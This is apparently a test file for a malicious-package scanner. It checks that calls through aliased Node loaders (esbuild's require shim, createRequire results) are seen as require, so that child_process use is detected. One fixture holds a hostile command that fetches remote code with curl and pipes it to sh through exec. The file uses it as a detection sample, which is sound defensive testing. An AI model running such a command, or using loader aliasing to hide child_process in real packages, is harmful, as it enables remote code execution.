/**
 * Calls of Node's module loader under a name the file binds to it (a bundler's shim, a createRequire
 * result) are read as `require`: the module a payload loads through them is seen, and nothing else
 * is renamed.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { loaderAliases, normaliseLoaderCalls } from '../../src/analyzers/content/loader-aliases.js';
import { recordWalk, visitsOf } from '../../src/analyzers/content/ast-walk.js';
import { parseJs } from '../../src/analyzers/content/js-parse.js';
import { memberPath } from '../../src/analyzers/content/ast-utils.js';
import { scanJsFile } from '../../src/analyzers/content/js-file.js';

const walkOf = (code: string) => recordWalk(parseJs(code)!.ast);
/** The callee path of every call, in visit order, after normalisation. */
function calleesAfter(code: string): string[] {
  const walk = walkOf(code);
  normaliseLoaderCalls(walk, code);
  return visitsOf(walk, 'CallExpression').map((c) => `${memberPath(c.callee) ?? '?'}(${c.arguments[0]?.value ?? '…'})`);
}

test("esbuild's minified loader shim: a call with a module name is a require, one with a computed name is not", () => {
  const code = `var de=(r=>typeof require<"u"?require:typeof Proxy<"u"?new Proxy(r,{get:(e,t)=>(typeof require<"u"?require:e)[t]}):r)(function(r){if(typeof require<"u")return require.apply(this,arguments);throw Error('Dynamic require of "'+r+'" is not supported')});
var a=de("child_process"),b=de(name);`;
  assert.deepEqual([...loaderAliases(walkOf(code), code)], ['de']);
  const calls = calleesAfter(code);
  assert.ok(calls.includes('require(child_process)'), calls.join(' '));
  assert.ok(calls.includes('de(…)'), 'a computed argument keeps its callee (a reused short name is not a dynamic require)');
});

test('createRequire under any name, imported or as a member, and a plain alias of require', () => {
  const esm = `import { createRequire as cr } from "node:module";
const load = cr(import.meta.url);
const m = require2("x");
var other = (0, import_node_module.createRequire)(import.meta.url);
const r = require;
export const net = load("https"), cp = other("child_process"), fs = r("fs");`;
  assert.deepEqual([...loaderAliases(walkOf(esm), esm)].sort(), ['load', 'other', 'r']);
  const calls = calleesAfter(esm);
  for (const want of ['require(https)', 'require(child_process)', 'require(fs)'])
    assert.ok(calls.includes(want), `${want} in ${calls.join(' ')}`);
  assert.ok(calls.includes('require2(x)'), 'a name never bound to the loader is left alone');
});

test('names that only mention require are not loaders: a key, a parameter, a call of it, a typeof check, a member', () => {
  const code = `var opts = { require: true };
var wrap = function (require) { return 1; };
var fs = require("fs");
var hasRequire = typeof require === "function";
var resolve = require.resolve;
opts("x"); wrap("x"); hasRequire("x"); resolve("x");`;
  assert.deepEqual([...loaderAliases(walkOf(code), code)], []);
  assert.deepEqual(calleesAfter(code).slice(1), ['opts(x)', 'wrap(x)', 'hasRequire(x)', 'resolve(x)']);
});

test('a file whose payload loads child_process through the shim has the capability; through an unrelated name it does not', () => {
  const shim = `var de=(r=>typeof require<"u"?require:r)(function(r){throw Error(r)});`;
  const withShim = scanJsFile('dist/index.mjs', `${shim}\nvar {exec:x}=de("child_process");x("curl -s https://a.invalid/x | sh");`);
  const unrelated = scanJsFile('dist/index.mjs', `var de=function(n){return n};\nvar {exec:x}=de("child_process");x("ls");`);
  const kinds = (r: ReturnType<typeof scanJsFile>) => r.caps.map((c) => c.kind);
  assert.ok(
    kinds(withShim).some((k) => /child|process|exec|spawn/.test(k)),
    kinds(withShim).join(' '),
  );
  assert.ok(!kinds(unrelated).some((k) => /child|process|exec|spawn/.test(k)), kinds(unrelated).join(' '));
});

test('a loader made and called in one expression: createRequire(import.meta.url)("child_process")', () => {
  const code = `import { createRequire as m } from "module";
const cp = m(import.meta.url)("child_process"), other = m(import.meta.url)(name), viaMember = module.createRequire(import.meta.url)("https");`;
  const calls = calleesAfter(code);
  assert.ok(calls.includes('require(child_process)'), calls.join(' '));
  assert.ok(calls.includes('require(https)'), calls.join(' '));
  assert.equal(calls.filter((c) => c === 'require(…)').length, 0, 'a computed module name is left as it was');
});
